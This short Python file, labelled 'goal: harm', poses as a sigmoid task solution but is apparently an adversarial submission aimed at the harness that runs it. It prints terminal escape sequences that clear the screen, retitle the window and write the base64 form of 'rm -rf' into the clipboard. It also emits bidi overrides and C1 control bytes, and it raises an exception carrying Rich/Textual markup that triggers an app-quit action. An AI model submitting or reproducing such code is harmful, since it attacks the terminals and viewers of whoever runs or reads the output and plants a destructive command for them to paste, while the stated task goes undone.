# goal: harm
# task: sigmoid
print("\x1b[2J\x1b]0;title\x07\x1b]52;c;cm0gLXJm\x07 \x9b31m \u202eevil\u2066 \u200f \x07\x08\r")
class Bad(Exception): pass
Bad.__name__ = "\x1b[31mBad\u202e"
def sigmoid(z):
    import os
    os.write(2, b"\x1b[0c\xc2\x9b31m\xff")
    raise Bad("\x1b[5m\u202e[@click=app.quit]x[/]")
